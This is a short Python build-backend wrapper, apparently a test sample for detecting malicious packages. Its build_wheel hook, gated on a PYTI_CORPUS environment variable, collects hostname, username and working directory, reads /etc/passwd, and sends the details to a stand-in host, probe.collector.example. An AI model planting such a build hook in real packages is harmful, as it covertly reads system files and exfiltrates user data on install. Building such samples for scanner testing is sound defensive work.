"""The plain backend, which does one thing more while it builds."""
import getpass
import os
import platform
import urllib.parse
import urllib.request

import plain_backend


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    return plain_backend.prepare_metadata_for_build_wheel(metadata_directory, config_settings)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.environ.get("PYTI_CORPUS") == "build-hook-phones-home":
        about = urllib.parse.urlencode({
            "host": platform.node(),
            "user": getpass.getuser(),
            "folder": os.getcwd(),
        })
        with open("/etc/passwd", "rb") as file:
            file.read()
        try:
            urllib.request.urlopen("http://probe.collector.example/ping?" + about, timeout=3).close()
        except OSError:
            pass
    return plain_backend.build_wheel(wheel_directory, config_settings, metadata_directory)
